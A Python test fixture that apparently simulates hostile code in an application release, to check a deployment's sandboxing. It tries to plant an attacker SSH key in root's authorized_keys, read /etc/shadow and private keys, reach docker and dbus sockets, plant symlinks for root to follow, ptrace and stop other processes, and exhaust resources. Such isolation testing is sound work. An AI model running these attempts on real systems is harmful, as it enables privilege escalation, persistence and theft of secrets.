"""The attacks of hostile code of a release, in each process in which it runs: pip, manage.py, gunicorn, Celery.

run(context) makes each attempt once and writes {name: what was gained, or ""} to the first directory that it can write
to. An attempt that gains something returns text; planted links have their effect later, when root comes by.
"""

import ctypes
import glob
import json
import os
import resource
import signal
import socket
import subprocess
import time

APP, LOG = "/var/www/shiftmaster", "/var/log/shiftmaster"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI-hostile attacker\n"
TARGETS = ("/root/canary", "/etc/shadow", "/root/.ssh/authorized_keys")
WRITE = [
    "/root/.ssh/authorized_keys", "/root/canary/new", "/etc/cron.d/hostile", "/etc/systemd/system/hostile.service",
    "/run/systemd/system/hostile.service", "/etc/sudoers.d/hostile", "/etc/ld.so.preload",
    "/etc/tmpfiles.d/hostile.conf",
    "/etc/shiftmaster/cutover.json", "/usr/local/sbin/shiftmasterctl",
    "/etc/nginx/sites-available/shiftmaster", "/etc/profile.d/hostile.sh", "/etc/logrotate.d/hostile",
    f"{APP}/hostile", f"{APP}/releases/hostile", f"{APP}/slots/hostile", f"{APP}/shared/hostile",
    f"{APP}/shared/state/state.json", f"{APP}/shared/state/audit.jsonl", f"{APP}/shared/static/hostile.js",
    f"{APP}/shared/maintenance/on", f"{LOG}/hostile.log", f"{LOG}/builds/hostile.log",
    "/var/backups/shiftmaster/hostile",
    "/var/cache/shiftmaster/hostile", "/run/shiftmaster/worker-blue.env", "/run/shiftmaster/restart",
    "/run/shiftmaster/points/rename", "/var/lib/prometheus/node-exporter/hostile.prom", "/proc/sys/kernel/core_pattern",
    "/sys/kernel/uevent_helper", "/proc/1/root/root/canary/new",
]  # fmt: skip
READ = [
    "/etc/shadow", "/root/canary/key", "/etc/ssl/private/shiftmaster.key", "/etc/redis/redis.conf",
    "/etc/shiftmaster/cutover.json", f"{APP}/active/release/env", f"{APP}/shared/state/state.json", "/proc/1/environ",
    "/var/cache/shiftmaster/source.tar", "/etc/postgresql/17/main/server.key",
]  # fmt: skip
COMMANDS = [
    ["systemctl", "stop", "nginx"], ["sudo", "-n", "id"], ["su", "-c", "id"], ["mount", "--bind", "/tmp", "/etc"],
    ["nsenter", "-t", "1", "-a", "id"], ["chroot", "/", "id"], ["crontab", "-l"], ["loginctl", "enable-linger"],
    ["systemd-run", "id"], ["nft", "list", "ruleset"], ["runuser", "-u", "postgres", "id"],
    ["psql", "-w", "-h", "/var/run/postgresql", "-U", "postgres", "-c", "select 1"],
]  # fmt: skip
# Access to these allows unlimited writes to the journal in the name of any program.
LOGS = ["/dev/log", "/run/systemd/journal/socket", "/run/systemd/journal/dev-log"]
SOCKETS = [
    "/run/systemd/journal/stdout",
    "/run/dbus/system_bus_socket",
    "/run/docker.sock",
    "/run/systemd/private",
    "/run/containerd/containerd.sock",
]


def planted():
    """Links and FIFOs wherever this user can put one, in place of what root opens by name."""
    places = {
        LOG: ["builds", "error.log", "app.log", "celery.log", "backup.log", "canary.log", "diagnosis", "checklists"],
        f"{APP}/shared/media": ["directory", "file.png", ".new", "avatars"],
        f"{APP}/shared/logs": ["app.log", "zzz.log", "other.log"],
        f"{APP}/shared/unknown-tasks": ["queue.json", "tasks.json"],
        f"{APP}/shared/static": ["css", "staticfiles.json"],
        "/run/shiftmaster": ["worker-blue.env", "worker-green.env", "points"],
        "/run/shiftmaster-metrics": ["gauge_all_1.db", "histogram_2.db"],
        "/run/shiftmaster-web-blue": ["web.sock.new"],
        "/run/shiftmaster-web-green": ["web.sock.new"],
        "/var/lib/shiftmaster-beat": ["schedule.new"],
        "/var/cache/shiftmaster/pip": ["http-v2", "wheels", "selfcheck"],
        "/dev/shm": ["shiftmaster", "ansible"],
        "/tmp": ["shiftmaster", "source.tar"],
    }
    for directory, names in places.items():
        for number, name in enumerate(names):
            path = os.path.join(directory, name)

            def plant(path=path, number=number):
                """Only in the log directory has root anything: a planted name there was taken from root."""
                aside = path + ".aside"
                if os.path.lexists(path):
                    os.rename(path, aside)
                if number % 3 == 1:
                    os.mkfifo(path)
                else:
                    os.symlink(TARGETS[number % len(TARGETS)], path)
                return "planted" if path.startswith((LOG, APP + "/shared/static")) else ""

            yield f"plant {path}", plant


def is_own():
    """Whether process 1 is of this unit, which then has a PID namespace of its own."""
    return "1" in os.listdir("/proc") and os.stat("/proc/1").st_uid == os.getuid()


def attempts():
    def write(path):
        with open(path, "a") as stream:
            stream.write(KEY)
        return f"wrote {path}"

    def read(path):
        if path.startswith("/proc/1/") and is_own():
            return ""
        with open(path, errors="replace") as stream:
            return f"read {path}" if stream.read(1) else ""

    def command(words):
        done = subprocess.run(words, stdin=subprocess.DEVNULL, capture_output=True, timeout=15)
        return f"ran {words}" if done.returncode == 0 else ""

    def connect(path, kind=socket.SOCK_STREAM):
        with socket.socket(socket.AF_UNIX, kind) as client:
            client.settimeout(3)
            client.connect(path)
        return f"connected to {path}"

    def link(path):
        os.link(path, f"{APP}/shared/media/hard")
        os.unlink(f"{APP}/shared/media/hard")
        return f"linked {path}"

    def become_root():
        os.setuid(0)
        return "setuid(0)"

    def trace():
        """Attach to another user's process."""
        for pid in filter(str.isdigit, os.listdir("/proc")):
            with open(f"/proc/{pid}/status") as stream:
                uid = int(stream.read().partition("Uid:")[2].split()[0])
            if uid != os.getuid() and ctypes.CDLL(None).ptrace(16, int(pid), 0, 0) == 0:
                return f"traced {pid}"
        return ""

    def environments():
        """Secrets in the environment of other users' processes."""
        for path in glob.glob("/proc/[0-9]*/environ"):
            try:
                if os.stat(path).st_uid != os.getuid() and open(path, "rb").read(1):
                    return f"read {path}"
            except OSError:
                continue
        return ""

    def kill():
        os.kill(1, 0)
        return "" if is_own() else "may signal process 1"

    def read_media():
        media = f"{APP}/shared/media"
        return "" if os.stat(media).st_uid == os.getuid() else f"listed {os.listdir(media)}"

    def large_file():
        path = next(path for path in (f"{APP}/shared/media", ".") if os.access(path, os.W_OK)) + "/large"
        try:
            with open(path, "w") as stream:
                stream.truncate(1 << 40)
            return "made a file of 1 TiB"
        finally:
            os.unlink(path)

    def memory():
        """Fill the host's memory file system; the test checks for the file there."""
        # A file of its own: another process that empties the file frees space.
        with open(f"/dev/shm/hostile-{os.getpid()}", "wb", buffering=0) as stream:
            try:
                for _megabyte in range(65):
                    stream.write(bytes(1 << 20))
                stream.write(b"1")
            finally:
                stream.truncate(0)
        return "wrote 65 MiB to /dev/shm"

    def core():
        return "may dump core" if resource.getrlimit(resource.RLIMIT_CORE)[1] else ""

    def take_port(port):
        """The port of a service that is stopped briefly: it could not start, and its clients would come here."""
        with socket.socket() as server:
            server.bind(("127.0.0.1", port))
        return f"bound port {port}"

    def stop_services():
        """Processes of manage.py and drivers only: the services of both slots have one user and see each other."""
        return "" if "SHIFTMASTER_SLOT" in os.environ else stop_others()

    for path in WRITE:
        yield f"write {path}", lambda path=path: write(path)
    for path in READ:
        yield f"read {path}", lambda path=path: read(path)
    for words in COMMANDS:
        yield "run " + " ".join(words), lambda words=words: command(words)
    for path in SOCKETS:
        yield f"connect {path}", lambda path=path: connect(path)
    for path in LOGS:
        yield f"log to {path}", lambda path=path: connect(path, socket.SOCK_DGRAM)
    for port in (5433, 6380, 9187):
        yield f"take port {port}", lambda port=port: take_port(port)
    for path in TARGETS[1:]:
        yield f"hard link {path}", lambda path=path: link(path)
    yield "become root", become_root
    yield "trace", trace
    yield "environments", environments
    yield "kill", kill
    yield "read media", read_media
    yield "large file", large_file
    yield "memory", memory
    yield "core", core
    yield "stop services", stop_services
    yield from planted()


def stop_others():
    """Stop the processes of the application's other units; /proc shows those of this unit alone."""
    own, stopped = set(os.listdir("/proc")), []
    for pid in range(2, os.getpid()):
        if str(pid) not in own:
            try:
                os.kill(pid, signal.SIGSTOP)
                stopped.append(pid)
            except OSError:
                continue
    return f"stopped {stopped}" if stopped else ""


def replace_socket():
    """Put a link in the place of the socket on which the web server finds this process, once the test requests it."""
    request, result = f"{APP}/shared/media/replace-socket", f"{APP}/shared/media/replaced-socket"
    while True:
        time.sleep(0.2)
        try:
            os.unlink(request)  # One of the processes has it.
        except OSError:
            continue
        try:
            place = f"/run/shiftmaster-web-{os.environ['SHIFTMASTER_SLOT']}/web.sock"
            os.rename(place, place + ".aside")
            os.symlink("/run/dbus/system_bus_socket", place)
            found = "replaced"
        except OSError as error:
            found = type(error).__name__
        with open(result + ".new", "w") as stream:
            stream.write(found)
        os.rename(result + ".new", result)


def leave(mark):
    """Leave a process that outlives this one and all that started it."""
    command = ["setsid", "sh", "-c", f"while sleep 1; do :; done # {mark}"]
    subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def run(context):
    results = {}
    for name, attempt in attempts():
        try:
            results[name] = attempt() or ""
        except Exception:
            results[name] = ""
    for directory in (f"{APP}/shared/media", os.getcwd()):
        try:
            with open(os.path.join(directory, f"attack-{context}.json"), "w") as stream:
                json.dump(results, stream)
            return
        except OSError:
            continue
